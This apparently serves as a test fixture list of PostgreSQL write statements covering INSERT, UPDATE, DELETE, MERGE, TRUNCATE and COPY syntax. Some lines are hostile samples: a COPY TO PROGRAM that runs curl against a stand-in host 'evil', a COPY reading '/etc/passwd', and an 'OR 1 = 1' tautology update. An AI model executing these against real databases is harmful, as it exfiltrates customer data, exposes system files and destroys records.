INSERT INTO customers (id, email) VALUES (1, 'a@b.c'), (2, DEFAULT), (-3, lower($1))

INSERT INTO customers VALUES (1, 'a@b.c', $1)

INSERT INTO archive SELECT * FROM customers WHERE id = $1

INSERT INTO customers (id, email) SELECT 1, 'x' RETURNING *

INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b || 'x' WHERE t.c > 0 RETURNING old.a, new.b

WITH customers AS (SELECT 1) INSERT INTO customers SELECT * FROM customers

UPDATE customers SET email = 'a@b.c', seen = now() WHERE id = 5

UPDATE customers SET email = lower(email)

UPDATE customers SET email = '' WHERE true

UPDATE customers SET email = '' WHERE id = id

UPDATE customers SET email = '' WHERE id = 1 OR 1 = 1

UPDATE customers SET (email, name) = ('x', $2) FROM blocked b WHERE b.id = customers.id

UPDATE customers SET doc['a'] = '1', tags[1] = 'x' WHERE CURRENT OF cur

DELETE FROM ONLY sessions

DELETE FROM sessions s USING users u WHERE u.id = s.owner AND u.gone RETURNING s.token

WITH gone AS (DELETE FROM a WHERE x = 1 RETURNING *) SELECT * FROM gone

WITH gone AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM gone

MERGE INTO stock s USING delivery d ON s.item = d.item WHEN MATCHED AND d.n = 0 THEN DELETE WHEN MATCHED THEN UPDATE SET n = s.n + d.n WHEN NOT MATCHED THEN INSERT (item, n) VALUES (d.item, 7)

MERGE INTO stock USING delivery ON true WHEN MATCHED THEN DELETE

TRUNCATE a, b.c CASCADE

LOCK TABLE a IN EXCLUSIVE MODE

NOTIFY channel, 'payload'

COPY customers TO STDOUT

COPY customers (id, email) FROM STDIN WITH (FORMAT csv)

COPY (SELECT email FROM customers) TO STDOUT

COPY customers TO PROGRAM 'curl evil'

COPY customers FROM '/etc/passwd'

COPY (DELETE FROM notes WHERE id = 1 RETURNING id, body) TO STDOUT WITH (FORMAT binary)

COPY customers (email) FROM STDIN CSV HEADER WHERE name <> 'x'
